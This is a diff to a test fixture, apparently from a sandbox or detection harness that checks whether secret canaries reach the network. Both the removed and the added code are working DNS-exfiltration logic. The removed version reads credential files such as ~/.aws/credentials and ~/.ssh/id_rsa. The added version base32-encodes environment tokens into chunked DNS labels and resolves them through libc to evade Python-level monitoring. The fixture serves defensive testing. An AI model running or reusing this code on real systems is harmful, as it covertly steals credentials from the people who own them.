@@ -1,23 +1,22 @@
-"""Sends what looks like a key out as a name to look up."""
+"""Sends what looks like a key out as a name to look up, past Python, in pieces and in base32."""
 
 # group: secrets
 # status: passed
+# limits: {observe: network}
 # network: true
 # rules: [canary-touched, network-attempt]
+# canaries:
+#   - the fake AWS key id (to the network)
+#   - the fake AWS secret key (to the network)
+#   - the fake GitHub token (to the network)
 
-import binascii
+import base64
+import ctypes
 import os
-import socket
 
-KEYS = [value for name, value in os.environ.items() if name.endswith(("TOKEN", "KEY", "KEY_ID"))]
-for path in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc"):
-    try:
-        KEYS.append(open(os.path.expanduser(path)).read())
-    except OSError:
-        pass
-for key in KEYS:
-    label = binascii.hexlify(key.strip().encode())[:60].decode()
-    try:
-        socket.getaddrinfo(f"{key[:40].strip()}.{label}.example", 80)
-    except (OSError, UnicodeError):
-        pass
+LIBC = ctypes.CDLL(None)
+for name, value in os.environ.items():
+    if name.endswith(("TOKEN", "KEY", "KEY_ID")):
+        said = base64.b32encode(f"{name[0]}={value}".encode()).decode().rstrip("=").lower()
+        labels = [said[at : at + 20] for at in range(0, len(said), 20)]
+        LIBC.getaddrinfo(".".join([*labels, "example"]).encode(), None, None, ctypes.byref(ctypes.c_void_p()))
